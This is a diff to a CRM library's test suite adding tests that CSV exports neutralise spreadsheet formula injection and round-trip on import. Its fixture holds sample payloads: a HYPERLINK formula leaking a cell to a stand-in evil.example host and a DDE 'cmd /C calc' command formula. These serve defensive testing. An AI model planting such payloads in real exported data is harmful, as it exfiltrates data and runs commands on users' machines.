@@ -12,18 +12,21 @@ from typing import Any
 
 import attrs
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import select
 
 from crmkit import CustomField, Party, User, ValidationError, hookimpl
 from crmkit.app import Crm
 from crmkit.core import exporting
+from crmkit.core.csv_cells import FORMULA_STARTS, neutralise, restore
 from crmkit.core.exporting import export_records
 from crmkit.core.importing import import_parties
 from crmkit.core.interactions import build_interaction, log_interaction
 from crmkit.core.parties import build_party, convert_prospect, create_party, load_parties
 from crmkit.core.tables import party
 from crmkit.core.users import create_user
-from crmkit.testing import invoke, register_plugin
+from crmkit.testing import http_client, invoke, register_plugin
 
 COMPARED = (
     "kind",
@@ -120,6 +123,124 @@ def test_a_customers_csv_export_imports_back_as_the_same_customers(
             assert getattr(copy, name) == getattr(original, name), name
 
 
+FORMULAS = {
+    "last_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "organisation_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "source": "-2+3",
+    "city": "+43",
+    "customer_number": "'=already quoted",
+}
+
+
+def test_no_cell_of_a_csv_export_is_a_spreadsheet_formula(app: Crm) -> None:
+    create(
+        app,
+        "customer",
+        **{k: v for k, v in FORMULAS.items() if k != "city"},
+        addresses=[{"city": FORMULAS["city"], "address_line2": "=1+1"}],
+        phones=["030 1234567"],
+        custom={"shop_visits": -3},
+    )
+    prospect = create(app, "prospect", last_name="Berg")
+    with app.transaction() as tx:
+        when = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
+        data = {
+            "party_id": prospect.id,
+            "channel": "note",
+            "direction": "internal",
+            "occurred_at": when,
+        }
+        log_interaction(tx, build_interaction({**data, "subject": "=1+1", "summary": "@x"}))
+
+    cells = {
+        what: list(csv.reader(io.StringIO(export(app, what, "csv"))))[1:]
+        for what in ("customers", "prospects", "interactions")
+    }
+
+    for what, rows in cells.items():
+        for cell in (cell for row in rows for cell in row):
+            assert not cell.startswith(FORMULA_STARTS), (what, cell)
+    (customer,) = csv.DictReader(io.StringIO(export(app, "customers", "csv")))
+    assert customer["last_name"] == "'" + FORMULAS["last_name"]
+    assert customer["customer_number"] == "''=already quoted"
+    assert customer["phones"] == "'+49301234567" and customer["shop_visits"] == "'-3"
+    assert customer["address_line2"] == "'=1+1"
+    (line,) = export(app, "customers", "jsonl").splitlines()
+    assert json.loads(line)["last_name"] == FORMULAS["last_name"]  # JSON lines as they are
+
+
+def test_formula_like_values_import_back_from_an_export_unchanged(app: Crm, tmp_path: Path) -> None:
+    create(
+        app,
+        "customer",
+        **{k: v for k, v in FORMULAS.items() if k != "city"},
+        addresses=[{"city": FORMULAS["city"], "street": "'t Hoofdstraat"}],
+        phones=["+43 1 5123456", "030 1234567"],
+        custom={"shop_visits": -3},
+    )
+    (original,) = all_parties(app)
+    path = tmp_path / "customers.csv"
+    path.write_text(export(app, "customers", "csv"), encoding="utf-8")
+
+    result = import_parties(app, "customer", path)
+
+    assert (result.created, result.rejected) == (1, 0)
+    copy = all_parties(app)[1]
+    for name in COMPARED:
+        assert getattr(copy, name) == getattr(original, name), name
+
+
+def test_a_formula_sent_through_the_public_lead_form_is_exported_as_text(app: Crm) -> None:
+    enquiry = {
+        "last_name": FORMULAS["last_name"],
+        "email": "anna.schmidt@web.de",
+        "message": "=1+1",
+    }
+    assert http_client(app).post("/forms/lead", json=enquiry).status_code == 202
+
+    (prospect,) = csv.DictReader(io.StringIO(export(app, "prospects", "csv")))
+    (enquired,) = csv.DictReader(io.StringIO(export(app, "interactions", "csv")))
+
+    assert prospect["last_name"] == "'" + FORMULAS["last_name"]
+    assert enquired["summary"] == "'=1+1"
+
+
+@pytest.mark.parametrize("separator", [";", "\t"])
+def test_a_formula_after_another_separator_stays_inside_its_quoted_cell(
+    app: Crm, separator: str
+) -> None:
+    # Excel in a German locale splits a .csv file on ";", a tab-separated reader on tabs.
+    enquiry = {"last_name": "Schmidt", "email": "anna.schmidt@web.de", "message": "hi;=1+1"}
+    enquiry["message"] = enquiry["message"].replace(";", separator)
+    http_client(app).post("/forms/lead", json=enquiry)
+
+    written = export(app, "interactions", "csv")
+
+    for line in written.splitlines():
+        cells = split_as_a_spreadsheet(line, separator)
+        assert not any(cell.strip('"').startswith(FORMULA_STARTS) for cell in cells), line
+
+
+def split_as_a_spreadsheet(line: str, separator: str) -> list[str]:
+    """The cells a spreadsheet finds: split on ``separator`` where no quote is open."""
+    cells, cell, quoted = [], "", False
+    for char in line:
+        if char == separator and not quoted:
+            cells, cell = [*cells, cell], ""
+            continue
+        quoted ^= char == '"'
+        cell += char
+    return [*cells, cell]
+
+
+@given(st.text())
+def test_a_neutralised_cell_is_never_a_formula_and_restores_to_its_value(value: str) -> None:
+    cell = neutralise(value)
+
+    assert not cell.startswith(FORMULA_STARTS)
+    assert restore(cell) == value
+
+
 def test_csv_columns_are_the_import_fields_with_several_values_joined(app: Crm) -> None:
     create(
         app, "prospect", last_name="Berg", emails=["a@example.de", "b@example.de"], status="working"
@@ -172,7 +293,7 @@ def test_every_party_is_exported_once_in_id_order_across_partitions(
     rows = list(csv.DictReader(io.StringIO(export(app, "prospects", "csv"))))
 
     assert [int(r["id"]) for r in rows] == ids
-    assert [r["phones"] for r in rows] == [f"+4930{1_000_000 + i}" for i in range(10)]
+    assert [r["phones"] for r in rows] == [f"'+4930{1_000_000 + i}" for i in range(10)]
 
 
 def test_writes_go_on_while_an_export_runs(app: Crm) -> None:
